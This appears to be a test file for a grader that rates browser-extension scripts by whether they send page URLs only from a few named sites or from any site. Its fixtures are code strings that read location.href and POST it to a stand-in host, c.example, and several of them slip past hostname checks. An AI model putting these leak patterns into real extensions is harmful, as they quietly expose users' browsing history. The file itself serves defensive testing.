import { expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

/* The address of a page is read anywhere, and told to somebody on the pages of some sites only. */
const TELL = "fetch('https://c.example/?u=' + encodeURIComponent(u));";
const SEND = `const send = (u) => ${TELL}`;
const READ = 'const u = location.href;';

it.each([
  [`${READ} if (location.hostname === 'tube.example') ${TELL}`],
  [`(() => { ${READ} if (location.hostname !== 'tube.example') return; ${TELL} })();`],
  [`${SEND} ${READ} if (location.hostname === 'tube.example') send(u);`],
  [`const AT = ['tube.example', 'www.tube.example']; ${READ} if (AT.includes(location.hostname)) ${TELL}`],
  [`const AT = new Set(['tube.example']); ${READ} if (AT.has(location.hostname)) ${TELL}`],
])('is of a few sites: %s', async (content) => {
  expect(await graded({ content })).toMatch(/^A/);
});

it.each([
  [`${SEND} ${READ} if (location.hostname === 'tube.example') send(u); else send(u);`],
  [`let u; if (location.hostname === 'tube.example') u = location.href; else u = location.href; ${TELL}`],
  [
    "const u = location.href; chrome.storage.local.get('all').then(({ all = [] }) => { all.push(u); chrome.storage.local.set({ all }); if (location.hostname === 'tube.example') fetch('https://c.example/', { method: 'POST', body: JSON.stringify(all) }); });",
  ],
  [`const AT = ['tube.example']; AT.push(location.hostname); ${READ} if (AT.includes(location.hostname)) ${TELL}`],
  [
    `const AT = ['tube.example']; fill(AT); function fill(x) { x.push(location.hostname); } ${READ} if (AT.includes(location.hostname)) ${TELL}`,
  ],
  [`let AT = ['tube.example']; AT = [location.hostname]; ${READ} if (AT.includes(location.hostname)) ${TELL}`],
  [`const AT = ['tube.example', '']; ${READ} if (AT.includes(location.hostname)) ${TELL}`],
  [`const AT = ['tube.example']; ${READ} if (!AT.includes(location.hostname)) ${TELL}`],
])('is of any site: %s', async (content) => {
  expect(await graded({ content })).toMatch(/^[DF]$/);
});

it('is of any site where another part gathered it', async () => {
  const content =
    "chrome.runtime.sendMessage({ u: location.href }); chrome.runtime.onMessage.addListener((m) => { if (location.hostname === 'tube.example') fetch('https://c.example/', { method: 'POST', body: m.list }); });";
  const background =
    'const list = []; chrome.runtime.onMessage.addListener((m, s) => { list.push(m.u); chrome.tabs.sendMessage(s.tab.id, { list: list.join() }); });';
  expect(await graded({ content, background })).toMatch(/^[DF]$/);
});
